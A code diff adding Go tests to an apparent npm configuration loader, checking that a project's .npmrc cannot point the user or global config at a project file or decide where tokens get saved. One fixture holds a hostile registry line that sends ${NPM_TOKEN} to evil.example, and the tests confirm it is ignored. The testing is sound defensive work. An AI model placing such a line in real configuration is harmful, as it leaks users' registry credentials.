@@ -48,6 +48,55 @@ func TestProjectFileCannotSendSecretsInAddresses(t *testing.T) {
 	}
 }
 
+func TestAFileThatAProjectNamesIsTheProjects(t *testing.T) {
+	stranger := "registry=https://evil.example/${NPM_TOKEN}/\n@a:registry=https://evil.example/${NPM_TOKEN}/\n@b:registry=https://r.example/\n"
+	for name, files := range map[string]map[string]string{
+		"as the user's":                   {"project/.npmrc": "userconfig=rc\n", "project/rc": stranger},
+		"as the global one":               {"project/.npmrc": "globalconfig=rc\n", "project/rc": stranger},
+		"as the global one, in two steps": {"project/.npmrc": "userconfig=rc\n", "project/rc": "globalconfig=rc2\n", "project/rc2": stranger},
+	} {
+		t.Run(name, func(t *testing.T) {
+			files["project/package.json"] = "{}"
+			c := load(t, nil, []string{"NPM_TOKEN=s3cret"}, files)
+			for key, want := range map[string]string{"registry": "https://registry.npmjs.org/", "@a:registry": "", "@b:registry": "https://r.example/"} {
+				if got := c.String(key); got != want {
+					t.Errorf("%s is %q, want %q", key, got, want)
+				}
+			}
+		})
+	}
+}
+
+func TestAProjectDoesNotChooseWhereTokensAreWritten(t *testing.T) {
+	for _, c := range []struct {
+		name, project string
+		args          []string
+		layer         Layer
+		written       bool
+	}{
+		{"the user's own file", "", nil, User, true},
+		{"one that the project names", "userconfig=rc\n", nil, User, false},
+		{"one that the project names, and the user too", "userconfig=rc\n", []string{"--userconfig=rc"}, User, true},
+		{"the global file that the project names", "globalconfig=rc\n", nil, Global, false},
+		{"the project's file", "userconfig=rc\n", nil, Project, true},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			cfg := load(t, c.args, nil, map[string]string{"project/package.json": "{}", "project/.npmrc": c.project, "project/rc": "color=false\n"})
+			cfg.Set("tag", NewString("x"), c.layer)
+			if err := cfg.Save(c.layer); (err == nil) != c.written {
+				t.Fatal(err)
+			}
+			text, err := os.ReadFile(cfg.Source(c.layer))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if strings.Contains(string(text), "tag=x") != c.written {
+				t.Errorf("%s has %q", cfg.Source(c.layer), text)
+			}
+		})
+	}
+}
+
 func TestCredentialsDoNotPrintTheirSecrets(t *testing.T) {
 	const secret = "hunter2hunter2"
 	login := Login{Token: secret, Username: "u", Password: secret, Basic: secret}
